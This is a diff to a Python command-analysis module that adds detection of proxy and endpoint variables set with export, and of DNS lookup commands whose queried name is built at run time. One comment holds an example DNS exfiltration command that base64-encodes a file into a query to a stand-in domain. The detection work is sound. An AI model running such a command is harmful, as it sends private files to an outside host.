@@ -543,6 +543,19 @@ _ADDRESS_IS_DATA: Final = frozenset(
      "podman", "kubectl", "ssh-keygen", "ssh-keyscan", "openssl"}
 )  # fmt: skip
 
+#: variables that say where programs connect (proxies, endpoints, servers): exported with
+#: a URL they are a host every later command reaches
+_CONNECTION_VAR: Final = re.compile(
+    r"^[A-Za-z_]*(?:proxy|PROXY|_URL|_URI|_HOST|_ENDPOINT|_SERVER|_ADDR|_ADDRESS|_DSN)"
+    r"[A-Za-z0-9_]*="
+)
+#: name lookups: a name built at run time and sent to a domain carries data out in the query
+_LOOKUPS: Final = frozenset({"dig", "host", "nslookup", "drill", "kdig", "delv", "resolvectl",
+                             "getent", "ping", "ping6", "curl", "wget"})  # fmt: skip
+_BUILT_NAME: Final = saferegex.compile(
+    r"[)}`]\.((?:[A-Za-z0-9-]{1,63}\.){1,8}[A-Za-z]{2,63})\.?$"
+)
+
 #: git subcommands that connect to the URLs they are given (``git remote add``, ``git
 #: config`` and the like only record one: the push or fetch that uses it is decided then)
 _GIT_CONNECTS: Final = frozenset(
@@ -671,6 +684,18 @@ def command_hosts(argv: list[str]) -> list[str]:
                 _add(found, _plausible(m.group(1)))
     if prog not in _TEXT_PROGRAMS:
         _option_hosts(args, found)
+    if prog in ("export", "declare", "typeset", "setenv"):  # export https_proxy=http://h
+        for a in args:
+            m = _CONNECTION_VAR.match(a)
+            if m is not None and "://" in a:
+                for host in command_hosts(["env", a]):
+                    _add(found, host)
+    if prog in _LOOKUPS:
+        for a in args:
+            if "$" in a or "`" in a:  # dig $(base64 /etc/x).oast.example: data in the name
+                m = _BUILT_NAME.search(a)
+                if m is not None:
+                    _add(found, _plausible(m.group(1)))
     for a in args:
         if "/inet" in a:  # gawk's network files: /inet/tcp/0/HOST/PORT
             for m in _GAWK_INET.finditer(a[:_MAX_CODE]):
